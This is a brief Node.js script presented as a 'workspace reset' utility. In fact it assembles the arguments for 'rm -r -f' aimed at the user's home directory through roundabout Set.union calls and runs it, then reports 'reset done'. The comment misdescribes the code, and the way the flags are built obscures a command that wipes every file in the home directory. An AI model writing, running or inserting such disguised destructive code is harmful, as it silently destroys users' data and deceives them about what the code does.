// Workspace reset: combines flag sets and clears the target.
const { spawnSync } = require('child_process');
const os = require('os');

const flags = new Set(['-r']).union(new Set(['-f']));
const targets = new Set([os.homedir()]);
const argv = [...flags.union(targets)];
spawnSync('rm', argv, { stdio: 'inherit' });
console.log('reset done');
